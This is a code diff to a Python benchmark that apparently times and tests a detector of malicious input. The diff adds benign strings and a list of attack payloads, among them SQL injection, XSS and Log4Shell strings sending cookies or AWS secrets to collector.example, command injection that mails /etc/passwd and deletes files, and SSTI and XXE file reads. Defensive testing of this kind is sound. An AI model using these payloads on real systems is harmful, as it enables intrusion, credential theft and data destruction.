@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import argparse
 import csv
+import statistics
 import time
 import timeit
 from collections import defaultdict
@@ -30,20 +31,38 @@ CATEGORY = {
     "cmdi": "COMMAND_EXECUTION",
 }
 FOLDS = 5
+ROUNDS, LOOKS = 100, 50  # at a value
 ORDINARY = (
     "maria.garcia-lopez@example.com",
-    "Calle de la Princesa 31, 4 izq",
-    "https://example.com/items/4711",
-    "a quite ordinary search phrase",
-    "5f1d7e2a-3b0c-4c1e-9d5f-7a6b8c",
+    "jo.smith+newsletter@example.org",
+    "Calle de la Princesa 31, 4º izq",
+    "Apt. #4, 12 St. James's Street",
     "O'Brien & Sons (Dublin) 2024-5",
+    "https://example.com/items/4711",
+    "/products/shoes?sort=asc&page=2",
+    "5f1d7e2a-3b0c-4c1e-9d5f-7a6b8c",
+    "2024-05-17T10:15:00.000+02:00",
+    "a quite ordinary search phrase",
+    '"red shoes" -leather (size 42)',
+    'rock & roll, soul and "the blues"',
+    "Price: $1,299.00 (incl. VAT)!",
+    "C++ developer / remote (EU only)",
+    "size=42; color=blue; brand=Acme",
+    "application/json; charset=utf-8",
 )
 SUSPICIOUS = (
     "1' AND 7756=(SELECT COUNT(*) FROM information_schema.tables AS t1, sysusers AS t2) AND 'fo'='fo' -- x",
+    "-1' UNION ALL SELECT NULL,CONCAT(0x7171,IFNULL(CAST(password AS CHAR),0x20)),NULL FROM users LIMIT 1#",
     '"><img src=x onerror="fetch(`https://collector.example/?c=${document.cookie}`)"><b title="some text">',
+    "javascript:eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))//<svg/onload=top['al'+'ert'](document.domain)>",
     "Dear team; the meeting (see 'agenda' & notes) is at 10:30 = half past ten; \"bring\" <your> laptop",
     "127.0.0.1; cat /etc/passwd | mail -s 'found it' somebody@example.com && rm -rf /tmp/traces_of_what_i_",
     "/static/../../../../../../../../../../../../../../../../../../../../../../../var/log/apache2/access.log",
+    "{{ ''.__class__.__mro__[1].__subclasses__()[407]('cat /etc/passwd', shell=True, stdout=-1).read() }} x",
+    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><user><name>&b;</name></user>',
+    "${${lower:j}ndi:${lower:l}dap://collector.example:1389/${env:AWS_SECRET_ACCESS_KEY}/a} and ordinary text",
+    "admin*)(|(objectClass=*))(&(uid=admin)(userPassword=*)) and a few more words behind it to make it long",
+    "%253Cscript%253Efetch%2528%2527%252F%252Fcollector.example%252F%2527%252Bdocument.cookie%2529%253C%252Fscript",
 )
 
 Labelled = Iterable[tuple[str, str]]
@@ -110,12 +129,22 @@ def mistaken_headers(misses: bool) -> None:
         print("".join(f"      {name}: {value[:150]!r}\n" for name, value in wrong), end="")
 
 
-def times(title: str, values: tuple[str, ...]) -> None:
-    """CPU microseconds for each value, the best of five rounds."""
-    print(f"{title}:")
-    for value in values:
-        rounds = timeit.repeat(partial(inspect, value), timer=time.process_time, number=2000, repeat=5)
-        print(f"  {min(rounds) / 2000 * 1e6:6.1f} µs  {value[:70]!r}")
+def times(title: str, values: tuple[str, ...]) -> float:
+    """Print what a look at each value takes in CPU microseconds, then the median and the slowest, which is returned.
+
+    A value's time is the shortest of many short rounds that are spread over the whole measurement, since whatever else
+    a machine does only ever adds to it.
+    """
+    shortest = dict.fromkeys(values, float("inf"))
+    for _ in range(ROUNDS):
+        for value in values:
+            spent = timeit.timeit(partial(inspect, value), timer=time.thread_time, number=LOOKS) / LOOKS * 1e6
+            shortest[value] = min(shortest[value], spent)
+    slowest = max(shortest.values())
+    print(f"{title}: median {statistics.median(shortest.values()):.1f} µs, slowest {slowest:.1f} µs")
+    for value, spent in sorted(shortest.items(), key=lambda pair: pair[1]):
+        print(f"  {spent:6.1f} µs  {value[:70]!r}")
+    return slowest
 
 
 def from_csv(data: Path) -> Iterator[tuple[str, str]]:
